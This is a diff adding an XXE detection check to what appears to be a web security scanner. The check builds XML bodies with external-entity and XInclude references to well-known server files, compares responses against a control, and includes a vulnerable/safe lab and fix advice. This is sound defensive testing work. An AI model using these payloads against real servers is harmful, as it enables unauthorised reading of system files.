@@ -1,0 +1,113 @@
+import { defineRequestCheck, type Nonce } from '../../active-check.ts';
+import type { InventoryItem } from '../../crawl/inventory.ts';
+import { typeOfBody } from '../../crawl/write-body.ts';
+import { requestOf } from '../../crawl/write-request.ts';
+import { judgeComputed, shows } from '../../oracle/computed.ts';
+import type { PointRequest } from '../../point.ts';
+import { KNOWN_FILES, type System } from '../known-files.ts';
+import { readElement } from '../lab-xml.ts';
+import { countLeaves, documentOf, mayTakeXml, withLeaf } from '../xml-document.ts';
+
+/** Which element of the document is replaced, by what, and which file is read. */
+interface Variant {
+  leaf: number;
+  by: 'entity' | 'include';
+  system: System;
+}
+
+const LABELS = {
+  base: 'the document as it is',
+  inner: 'entities that are in the document',
+  attack: 'well-known file',
+  control: 'file that does not exist',
+} as const;
+
+const marksOf = ({ word }: Nonce) => [word.slice(0, 7), `e${word.slice(7)}`] as const;
+
+function requestFor(item: InventoryItem, document: string): PointRequest {
+  const type = /xml/i.test(typeOfBody(item)) ? typeOfBody(item) : 'application/xml';
+  return { ...requestOf(item), headers: [['Content-Type', type]], body: `<?xml version="1.0"?>${document}` };
+}
+
+function withEntities(item: InventoryItem, leaf: number, declared: string, used: string): PointRequest {
+  return requestFor(item, `<!DOCTYPE r [${declared}]>${withLeaf(documentOf(item), leaf, used)}`);
+}
+
+function inner(item: InventoryItem, leaf: number, nonce: Nonce): PointRequest {
+  const [first, second] = marksOf(nonce);
+  return withEntities(item, leaf, `<!ENTITY a "${first}"><!ENTITY b "${second}">`, '&a;&b;');
+}
+
+function reading(item: InventoryItem, { leaf, by, system }: Variant, file: string): PointRequest {
+  const address = `file:///${system === 'windows' ? 'c:/' : ''}${file}`;
+  if (by === 'entity') return withEntities(item, leaf, `<!ENTITY a SYSTEM "${address}">`, '&a;');
+  const include = `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${address}"/>`;
+  return requestFor(item, withLeaf(documentOf(item), leaf, include));
+}
+
+const entity = (leaf: number): Variant[] => [
+  { leaf, by: 'entity', system: 'unix' },
+  { leaf, by: 'entity', system: 'windows' },
+];
+const INCLUDES: readonly Variant[] = [
+  { leaf: 0, by: 'include', system: 'unix' },
+  { leaf: 1, by: 'include', system: 'unix' },
+];
+
+export default defineRequestCheck<Variant>({
+  id: 'xxe',
+  title: 'An XML document can read files of the server',
+  cwe: 611,
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  why: 'The parser loads what a document refers to: a file of the server, or a page of its inner network. Whoever sends the document gets to read it.',
+  fix: 'Switch off document types, external entities and XInclude in the parser. Do not read XML where you expect JSON.',
+  risk: 'harmless',
+  appliesTo: (item) => mayTakeXml(item) && countLeaves(documentOf(item)) > 0,
+  variants: [...entity(0), ...INCLUDES],
+  maxRequests: 24,
+  async probe(item, nonce, { ask }) {
+    const leaves = Array.from({ length: countLeaves(documentOf(item)) }, (_, leaf) => leaf);
+    for (const leaf of leaves) {
+      if (shows(await ask(inner(item, leaf, nonce)), marksOf(nonce).join(''))) return entity(leaf);
+    }
+    return /xml/i.test(typeOfBody(item)) ? INCLUDES.filter(({ leaf }) => leaf < leaves.length) : [];
+  },
+  proof: {
+    plan(item, variant, nonce) {
+      const { path } = KNOWN_FILES[variant.system];
+      const entities = { label: LABELS.inner, request: inner(item, variant.leaf, nonce) };
+      return [
+        { label: LABELS.base, request: requestFor(item, documentOf(item)) },
+        ...(variant.by === 'entity' ? [entities] : []),
+        { label: LABELS.attack, request: reading(item, variant, path) },
+        { label: LABELS.control, request: reading(item, variant, path.replace(/[^/]*$/, nonce.word)) },
+      ];
+    },
+    judge(answers, { by, system }, nonce) {
+      const file = { [LABELS.attack]: KNOWN_FILES[system].shows };
+      const entities = { [LABELS.inner]: marksOf(nonce).join('') };
+      return judgeComputed(answers, by === 'entity' ? { ...file, ...entities } : file, [LABELS.base, LABELS.control]);
+    },
+  },
+  lab() {
+    const answer = (xml: string, isFollowing: boolean) => {
+      try {
+        return { body: `Ordered:\n${readElement(xml, 'tea', isFollowing)}\nEcho: ${isFollowing ? '' : xml}` };
+      } catch {
+        return { status: 400, body: 'The document cannot be read' };
+      }
+    };
+    return {
+      item: {
+        method: 'POST',
+        url: '/orders',
+        parameters: [],
+        seenAs: null,
+        contentType: 'text/plain',
+        body: { type: 'text/xml', text: '<?xml version="1.0"?><order><id>7</id><tea>Sencha</tea></order>' },
+      },
+      vulnerable: ({ body }) => answer(body, true),
+      safe: ({ body }) => answer(body, false),
+    };
+  },
+});
